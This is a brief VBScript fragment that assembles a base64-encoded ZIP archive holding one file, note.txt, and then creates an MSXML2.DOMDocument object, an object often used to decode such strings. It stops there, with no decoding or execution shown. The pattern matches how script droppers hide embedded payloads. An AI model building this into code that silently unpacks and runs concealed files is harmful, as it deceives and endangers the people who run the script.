' A note: don't edit
Option Explicit
Dim s, o
s = s & "UEsDBBQAAAAIAAAAIVjWNeeXPwAAAOgDAAAIAAAA" & _
  ""
s = s & "bm90ZS50eHQLycgsVkjLzElVyMjPSSlWSMzLL8lI" & _
  ""
s = s & "LVIoSa0o0ePyzs/Ly0zOyCxP1FF4Nn3pszlr9LhC" & _
  ""
s = s & "RnWM6hjVMcR0AABQSwECFAMUAAAACAAAACFY1jXn" & _
  ""
s = s & "lz8AAADoAwAACAAAAAAAAAAAAAAAgAEAAAAAbm90" & _
  ""
s = s & "ZS50eHRQSwUGAAAAAAEAAQA2AAAAZQAAAAAA" & _
  ""
Set o = CreateObject("MSXML2.DOMDocument")
